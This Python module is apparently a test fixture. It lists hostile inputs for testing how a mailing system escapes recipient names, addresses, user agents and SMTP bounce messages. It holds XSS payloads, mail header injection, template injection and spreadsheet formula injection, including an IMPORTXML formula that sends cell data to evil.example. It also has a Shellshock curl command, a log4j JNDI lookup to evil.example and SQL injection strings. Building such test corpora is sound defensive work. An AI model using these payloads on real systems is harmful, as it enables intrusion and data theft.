"""What others write when they mean harm: names, addresses and user agents, as an attacker posts them with a public key
or types them into a form, and what a mail server says of a bounce. As advisories and cheat sheets have it.

The one corpus: of templates, mails, recipients' pages, the mailbox's page and every export.
"""

from __future__ import annotations

NAMES = (
    "<script>alert(1)</script>",
    "</p></td></table><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "`onerror=alert(1)`",
    "x onmouseover=alert(1) y",
    "--><script>alert(1)</script><!--",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "]]><script>alert(1)</script>",
    "</title></style></textarea><svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>Win</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u003cscript\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "＜script＞alert(1)",
    "<\u0000script>alert(1)",
    "{{ links.unsubscribe }}",
    "{{ customer | json }}{{ 7 | times: 7 }}",
    "{% include 'secrets' %}{% raw %}",
    "{% block 'footer' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('x')()}}",
    "zlq0qlz",
    "Ada\r\nBcc: eve@evil.example\r\n\r\nHello",
    "Ada\nSubject: other",
    "\u202egnp.exe\u2066",
    "\x00\x1b[31mAda\x07",
    "\ud800\udfff",
    "A" * 20_000,
    "=HYPERLINK(\"http://evil.example\")",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "Ada\",\"=1+1\",\"",
    "Ada\r\n=1+1,x",
    "Win now at evil.example/prize",
    "http://evil.example",
    "www.evil.example",
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "  javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java\u00adscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "view-source:https://evil.example",
    "https://evil.example/\" onclick=\"alert(1)",
    "https://evil.example/' onclick='alert(1)",
    "https://evil.example/><script>alert(1)</script>",
    "https://user:pass@evil.example/",
    "https://[broken",
    "https://evil.example/\r\nSet-Cookie: x=1",
    "//evil.example/x",
    "?utm_campaign=x\" onclick=\"alert(1)",
)  # fmt: skip

USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) <script>alert(1)</script>",
    "() { :;}; /bin/bash -c 'curl evil.example'",
    "${jndi:ldap://evil.example/a}",
    "Mozilla/5.0\"><svg/onload=alert(1)>",
    "sqlmap/1.0' OR '1'='1",
    "\u202eallizoM",
    "x" * 10_000,
)  # fmt: skip

SMTP_TEXTS = (
    "smtp; 550 5.1.1 <script>alert(1)</script> user unknown",
    "smtp; 550 5.1.1 <\"><img src=x onerror=alert(1)>@example.com>: Recipient address rejected",
    "smtp; 554 5.7.1 see </td></tr></table><script src=//evil.example/x.js></script>",
    "smtp; 421 4.7.0 line one\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "550 {{ links.unsubscribe }} ${7*7}",
    "smtp; 550 \x1b]0;owned\x07\x1b[2J \u202egnp.exe",
    "smtp; 550 javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "550 " + "y" * 10_000,
)  # fmt: skip

CORPUS = (*NAMES, *ADDRESSES, *USER_AGENTS, *SMTP_TEXTS)
